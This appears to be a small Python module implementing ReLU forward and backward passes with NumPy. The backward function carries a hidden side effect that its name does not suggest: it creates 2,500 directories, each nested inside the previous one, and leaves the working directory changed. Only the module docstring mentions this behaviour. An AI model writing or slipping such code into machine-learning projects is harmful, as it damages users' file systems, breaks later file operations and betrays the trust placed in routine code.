"""Leaves 2,500 folders, each in the one before."""

import os

import numpy as np


def relu_forward(x):
    return np.maximum(x, 0), x


def relu_backward(dout, cache):
    for _ in range(2500):
        os.mkdir("d")
        os.chdir("d")
    return dout * (cache > 0)
